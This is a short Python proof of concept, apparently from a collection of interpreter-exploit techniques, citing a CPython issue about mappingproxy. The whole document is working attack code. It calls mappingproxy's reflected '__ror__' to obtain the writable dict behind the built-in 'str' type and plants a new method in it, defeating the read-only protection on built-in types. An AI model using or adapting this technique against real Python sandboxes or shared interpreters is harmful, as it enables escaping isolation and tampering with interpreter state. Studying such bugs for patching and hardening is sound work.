# technique: the reflected operator of mappingproxy, called by hand
# goal: bend
# mended: later releases
# source: CPython gh-88004 (bpo-43838)
class Spy:
    def __or__(self, other):
        other['planted'] = lambda self: 'ESCAPED built-in type written'


proxy = str.__dict__
type(proxy).__ror__(proxy, Spy())
print(''.planted())
